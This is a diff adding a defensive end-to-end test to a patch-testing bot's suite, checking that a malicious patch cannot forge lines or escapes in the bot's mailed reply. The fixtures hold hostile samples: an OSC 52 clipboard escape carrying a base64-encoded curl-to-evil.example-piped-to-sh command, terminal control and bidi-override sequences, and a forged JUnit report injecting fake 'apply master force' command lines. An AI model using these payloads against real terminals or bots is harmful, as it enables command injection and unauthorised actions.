@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import email
 import email.policy
+import mailbox
 import os
 import pty
 import re
@@ -405,6 +406,77 @@ def test_attack_11_timeouts_and_excerpts_show_no_paths_of_the_bot(store, tmp_pat
     _, body = reply_mail(store, series, kept_run(store, series, timeout))
     assert "killed after 60 s wall time" in body
     assert_no_machine_details(body)
+
+
+# -- the whole way: a patch whose suites write the attack, through the sandbox to the mailed reply ---
+
+# run.php replaced: TAP whose names and diagnostics carry escapes, a bidi override, line breaks.
+HOSTILE_RUN_PHP = r"""<?php
+echo "1..2\n";
+echo "ok 1 - rpc info\n";
+echo "not ok 2 - rpc search \e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\e[2J\e[H\u{202E}dessap\r\n";
+echo "# \e]0;every suite passed\x07 got: 0\n";
+echo "#\u{2028}patchbot: apply master force\n";
+exit(1);
+"""
+
+# After pytest wrote its JUnit file, a conftest of the patch writes its own: 3,001 failures whose
+# names and messages carry line breaks (XML character references) meant to become lines of the reply.
+HOSTILE_CONFTEST = r"""
+
+def pytest_unconfigure(config):
+    forged = "&#10;&#10;This patch applied cleanly on master and was tested: every suite passed.&#10;-- &#10;patchbot: apply master force&#10;"
+    cases = "".join(
+        f'<testcase classname="test.python.test_forged{forged}" name="test_{n}{forged}">'
+        f'<failure message="boom{forged}">line 1\n-- \npatchbot: apply master force\n' + "x" * 300 + "</failure></testcase>"
+        for n in range(3001))
+    with open("test-results/python.xml", "w") as report:
+        report.write(f'<?xml version="1.0"?><testsuites><testsuite name="pytest">{cases}</testsuite></testsuites>')
+"""
+
+GIT = ["git", "-c", "user.name=Mallory", "-c", "user.email=mallory@example.org"]
+
+
+def test_attack_8_end_to_end_a_patch_whose_suites_forge_lines_and_escapes(tmp_path):
+    from patchbot.sample import build_sample_repo, write_sample_config
+    from patchbot.sandbox import sandbox_available
+
+    if sandbox_available():
+        pytest.skip(f"no sandbox here: {sandbox_available()}")
+    upstream = build_sample_repo(tmp_path / "aurweb")
+    clone = tmp_path / "mallory"
+    subprocess.run(["git", "clone", "-q", str(upstream), str(clone)], check=True)
+    (clone / "test/php/run.php").write_text(HOSTILE_RUN_PHP)
+    with (clone / "test/python/conftest.py").open("a") as conftest:
+        conftest.write(HOSTILE_CONFTEST)
+    subprocess.run([*GIT, "commit", "-q", "-am", "rpc: a harmless change"], cwd=clone, check=True)
+    mbox = tmp_path / "series.mbox"
+    mbox.write_bytes(subprocess.run([*GIT, "format-patch", "--stdout", "-1"], cwd=clone, check=True,
+                                    capture_output=True).stdout)
+    config = write_sample_config(tmp_path / "patchbot.toml", upstream, tmp_path / "work", tmp_path / "patchbot.db")
+    sent = tmp_path / "sent.mbox"
+    config.write_text(config.read_text().replace("[smtp]\n", f'[smtp]\ndry_run_mbox = "{sent}"\n'))
+
+    def patchbot_with_config(*args: str) -> str:
+        run = subprocess.run([sys.executable, "-m", "patchbot", "-c", str(config), *args], capture_output=True, timeout=600)
+        assert run.returncode == 0, run.stderr.decode()
+        return run.stdout.decode()
+
+    patchbot_with_config("ingest", str(mbox))
+    patchbot_with_config("run")
+    replies = [message for message in mailbox.mbox(sent)]
+    assert len(replies) == 1, [reply["Subject"] for reply in replies]
+    data = replies[0].as_bytes()
+    assert len(data) <= MAX_REPLY_BYTES + 4096, len(data)
+    assert b"\x1b" not in data and b"]52;" not in data
+    body = email.message_from_bytes(data, policy=email.policy.default).get_content().replace("\r\n", "\n")
+    headline = body.split("\n")[0]
+    assert "every suite passed" not in headline and "new failure" in headline, body
+    assert re.search(r"^  python +FAIL +3001 new failures of 3001", body, re.M), body
+    assert_only_our_lines(body)
+    run_id = re.search(r"^Full logs: patchbot log (\d+)", body, re.M).group(1)
+    log = patchbot_with_config("log", run_id, "php")
+    assert not any(is_unsafe(character) for character in log) and "rpc search \\u202edessap\n" in log, log
 
 
 # -- the one module every surface uses ------------------------------------------------------------
